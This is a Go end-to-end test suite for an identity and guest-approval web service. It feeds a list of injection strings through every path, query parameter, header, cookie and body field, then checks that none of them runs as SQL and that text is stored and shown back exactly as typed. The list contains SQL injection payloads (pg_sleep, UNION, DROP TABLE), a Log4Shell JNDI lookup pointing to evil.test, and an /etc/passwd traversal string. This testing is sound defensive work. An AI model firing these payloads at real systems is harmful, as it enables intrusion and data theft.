package strangers

import (
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/vestibule-id/vestibule/e2e/story"
)

var injections = []string{
	"';SELECT pg_sleep(5)--", "x' OR '1'='1", "x\" OR \"1\"=\"1", "1); DROP TABLE requests; --", "' UNION SELECT token_hash FROM identity_sessions --", "%27%20OR%201=1",
	"\\'; SELECT 1; --", "$$; SELECT pg_sleep(5); $$", "x'||(SELECT pg_sleep(5))||'", "' AND randomblob(1000000000) --", "1 OR pg_sleep(5)", "${jndi:ldap://evil.test/x}", "../../../../etc/passwd",
}

// rowsOf counts every table of a house, but for those that it fills in its own time: its work, and the links of the mails
// that still have a reason to leave.
func rowsOf(t *testing.T, tn *story.Town) map[string]int {
	t.Helper()
	query := "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE '%_fts%' AND name NOT LIKE 'sqlite_%'"
	if tn.Name == "postgres" {
		query = "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE'"
	}
	tables, err := tn.Eyes.Strings(t.Context(), query)
	require.NoError(t, err)
	require.Greater(t, len(tables), 20)
	counts := map[string]int{}
	for _, table := range tables {
		switch table {
		case "jobs", "job_schedules", "audit_seals", "operation_marks", "goose_db_version", "approval_links":
		default:
			counts[table] = tn.Count(t, "SELECT count(*) FROM "+table)
		}
	}
	return counts
}

// prompt is a call that neither fails nor sleeps, and that may be made again.
func prompt(t *testing.T, call func() story.Answer) (a story.Answer) {
	t.Helper()
	for range 3 { // a busy machine holds one call up; a statement that sleeps does so every time
		began := time.Now()
		a = call()
		require.Less(t, a.Status, 500, "%s", a)
		if time.Since(began) < 4*time.Second {
			return a
		}
	}
	t.Errorf("three times too slow: %s", a)
	return a
}

// Row T55: nothing that is typed becomes a statement: in no path, parameter, cursor, header, cookie or key of a body. Not
// one row more or less is anywhere afterwards.
func TestT55_NothingTypedBecomesAStatement(t *testing.T) {
	story.Kinds(t, func(t *testing.T, kind string) {
		tn := story.Own(t, kind, 1, nil)
		end := tn.Begins(t)
		maria, _, _ := tn.WaitsForProof(t, "maria")
		maria, sponsor := maria.Speaks("de"), tn.Member(t, story.Jonas).Speaks("de")
		nobody := tn.BrowserOf(t, "nobody@example.com").Speaks("de")
		before := rowsOf(t, tn)
		for _, typed := range injections {
			inPath, inQuery := url.PathEscape(typed), url.QueryEscape(typed)
			for _, path := range []string{
				"guests?search=" + inQuery, "guests?sponsor=" + inQuery, "guests?organisation=" + inQuery, "guests?state=" + inQuery, "guests?after=" + inQuery, "guests?limit=" + inQuery,
				"approvals?search=" + inQuery, "approvals?flow=" + inQuery, "approvals?state=" + inQuery, "approvals?after=" + inQuery, "approvals?count=" + inQuery,
				"organisations?after=" + inQuery, "organisations?search=" + inQuery, "sponsors?after=" + inQuery, "guests?" + inQuery + "=x",
				"guests/" + inPath, "guests/" + inPath + "/timeline", "approvals/" + inPath, "flows/" + inPath, "flows/" + inPath + "/source", "decide/" + inPath, "requests/" + inPath,
			} {
				prompt(t, func() story.Answer { return sponsor.Get("/api/v1/" + path) })
			}
			for _, header := range []string{"Accept-Language", "User-Agent", "Referer", "X-Forwarded-For", "Request-Id", "Traceparent", "If-None-Match"} {
				prompt(t, func() story.Answer { return sponsor.With(header, typed).Get("/api/v1/guests?limit=1") })
			}
			for _, cookie := range []string{"vestibule_session", "vestibule_signup", "vestibule_device", "vestibule_signin", "vestibule_link"} {
				prompt(t, func() story.Answer { return nobody.With("Cookie", cookie+"="+typed).Get("/api/v1/me") })
				prompt(t, func() story.Answer { return nobody.With("Cookie", cookie+"="+typed).Get("/api/v1/link") })
			}
			prompt(t, func() story.Answer { return nobody.With("Authorization", "Bearer vst_"+typed).Get("/api/v1/guests") })
			prompt(t, func() story.Answer { return nobody.Get("/l/" + inPath) })
			typedBodies(t, maria, sponsor, typed)
		}
		for _, kept := range []string{"identity_tries", "idempotency_keys"} { // wrong codes are counted, and answers to keyed calls kept
			delete(before, kept)
		}
		before["audit_events"] += 6 // five codes that were compared, and that it was too often
		after := rowsOf(t, tn)
		maps.DeleteFunc(after, func(table string, _ int) bool {
			return before[table] == 0 && (table == "identity_tries" || table == "idempotency_keys")
		})
		require.Equal(t, before, after)
		maria.Leaves(story.Left{Traces: story.Traces{Mails: 1, Codes: 1}, Audit: []string{"signup.started", "identity.code_refused! ×6"}})
		end()
	})
}

// typedBodies types into every member of a body that takes an address, an id, a code, a name or a path; none does anything.
func typedBodies(t *testing.T, maria, sponsor *story.Person, typed string) {
	t.Helper()
	for path, body := range map[string]map[string]any{
		"/api/v1/signups":                  {"flow": typed},
		maria.Path("/email"):               {"email": typed},
		maria.Path("/code"):                {"code": typed},
		maria.Path("/submit"):              {"answers": map[string]any{typed: typed}, "consents": []map[string]any{{"terms": typed, "version": typed}}},
		"/api/v1/signin":                   {"email": typed, "returnTo": typed},
		"/api/v1/signin/code":              {"code": typed},
		"/api/v1/setup/check":              {"token": typed},
		"/api/v1/setup":                    {"token": typed, "organisation": typed, "name": typed, "email": maria.Address},
		"/api/v1/requests/7KQ-42M-9/reply": {"text": typed},
	} {
		a := prompt(t, func() story.Answer { return maria.Post(path, body) })
		require.GreaterOrEqual(t, a.Status, 400, "%s", a)
	}
	const unknown = "/api/v1/approvals/req_01JZZZZZZZZZZZZZZZZZZZZZZZ"
	for _, p := range []*story.Person{sponsor, sponsor.With("Idempotency-Key", typed)} {
		prompt(t, func() story.Answer {
			return p.Post(unknown+"/decision", map[string]any{"decision": "deny", "reason": typed, "note": typed})
		}).IsOneOf(http.StatusNotFound, http.StatusBadRequest)
	}
	prompt(t, func() story.Answer { return sponsor.Post(unknown+"/ask", map[string]any{"text": typed}) }).Is(http.StatusNotFound)
}

// Row T55: what is typed into free text is kept and shown as it was typed, wherever it goes, and costs exactly the rows
// that plain text costs.
func TestT55_TypedTextIsKeptAsItIs(t *testing.T) {
	story.Kinds(t, func(t *testing.T, kind string) {
		tn := story.Own(t, kind, 1, nil)
		end := tn.Begins(t)
		sponsor := tn.Member(t, story.Jonas)
		plain := growth(t, tn, func() { keeps(t, tn, sponsor, []string{"plain", "text", "of three"}) })
		hostile := growth(t, tn, func() { keeps(t, tn, sponsor, injections) })
		more := len(injections) - 3
		for table, each := range map[string]int{"approval_messages": 2, "audit_events": 2, "mails": 3} { // to the applicant, and back to both approvers
			plain[table] += each * more
		}
		require.Equal(t, plain, hostile, "as many rows in every table as for plain text")
		end()
	})
}

// growth is how many rows each table has more after act, once no mail is under way.
func growth(t *testing.T, tn *story.Town, act func()) map[string]int {
	t.Helper()
	before := rowsOf(t, tn)
	act()
	story.Eventually(t, "an empty queue", func() bool {
		return tn.Count(t, "SELECT count(*) FROM mails WHERE state IN ('queued', 'retrying')") == 0
	})
	after := rowsOf(t, tn)
	for table, n := range before {
		after[table] -= n
	}
	return after
}

// keeps sends one request whose draft, answers, questions, replies, reason and note are texts, and reads them back.
func keeps(t *testing.T, tn *story.Town, sponsor *story.Person, texts []string) {
	t.Helper()
	maria := tn.Visitor(t, "maria").Proves(story.Partner)
	for _, typed := range texts {
		prompt(t, func() story.Answer {
			return maria.Patch(maria.Path(""), map[string]any{"answers": map[string]any{"purpose": typed}})
		})
		require.Equal(t, typed, maria.Get(maria.Path("")).Is(http.StatusOK).Value("answers.purpose"))
	}
	all := strings.Join(texts, " ")
	maria.Sends(story.Partner, story.Answered("purpose", all)).Is(http.StatusAccepted)
	id := tn.RequestID(t, maria.Ref)
	for _, typed := range texts {
		prompt(t, func() story.Answer {
			return sponsor.Post("/api/v1/approvals/"+id+"/ask", map[string]any{"text": typed})
		}).Is(http.StatusOK)
		prompt(t, func() story.Answer {
			return maria.Post("/api/v1/requests/"+maria.Ref+"/reply", map[string]any{"text": typed})
		}).Is(http.StatusOK)
	}
	sponsor.Decides(id, "deny", map[string]any{"reason": all, "shareReason": true, "note": all}).Is(http.StatusOK)
	shown := sponsor.Get("/api/v1/approvals/" + id).Is(http.StatusOK)
	require.Equal(t, all, shown.Text("purpose"))
	require.Equal(t, all, shown.Text("decisions.0.reason"))
	require.Equal(t, all, shown.Text("decisions.0.note"))
	for i, typed := range texts {
		require.Equal(t, typed, shown.Value(fmt.Sprintf("messages.%d.text", 2*i)))
		require.Equal(t, typed, shown.Value(fmt.Sprintf("messages.%d.text", 2*i+1)))
	}
	require.Equal(t, all, maria.Request().Text("reason"))
	maria.Audited()
}

// Row T55: to a search, % and _ are letters like others.
func TestT55_PercentAndUnderscoreAreLetters(t *testing.T) {
	story.Attack(t, func(t *testing.T, tn *story.Town) {
		word, sponsor := story.Unique(), tn.Member(t, story.Jonas)
		people := map[string]*story.Person{}
		for _, sign := range []string{"_", "%", "x"} {
			people[sign] = tn.BrowserOf(t, word+sign+"b@fabrikam.example").Asks(story.Partner, story.Answered())
		}
		found := func(list, search string) (mails []any) {
			for _, one := range sponsor.Get("/api/v1/" + list + "search=" + url.QueryEscape(search)).Is(http.StatusOK).List("data") {
				if applicant, ok := one.(map[string]any)["applicant"].(map[string]any); ok {
					one = applicant
				}
				mails = append(mails, one.(map[string]any)["email"])
			}
			return mails
		}
		for _, list := range []string{"approvals?", "approvals?state=done&", "guests?"} {
			for sign, p := range people {
				if list != "approvals?" && sponsor.Get("/api/v1/approvals/"+tn.RequestID(t, p.Ref)).Text("state") == "pending" {
					sponsor.Decides(tn.RequestID(t, p.Ref), "approve", nil).Is(http.StatusOK)
				}
				require.Equal(t, []any{p.Address}, found(list, word+sign+"b"), "%s: %s stands for itself", list, sign)
			}
			for _, none := range []string{word[:5] + "%" + word[6:], word[:5] + "_" + word[6:], "%%%", "___", "%", "_", word + "\\_b", word + "*b"} {
				require.Empty(t, found(list, none), "%s: %s", list, none)
			}
		}
		for _, p := range people {
			p.Audited()
		}
	})
}
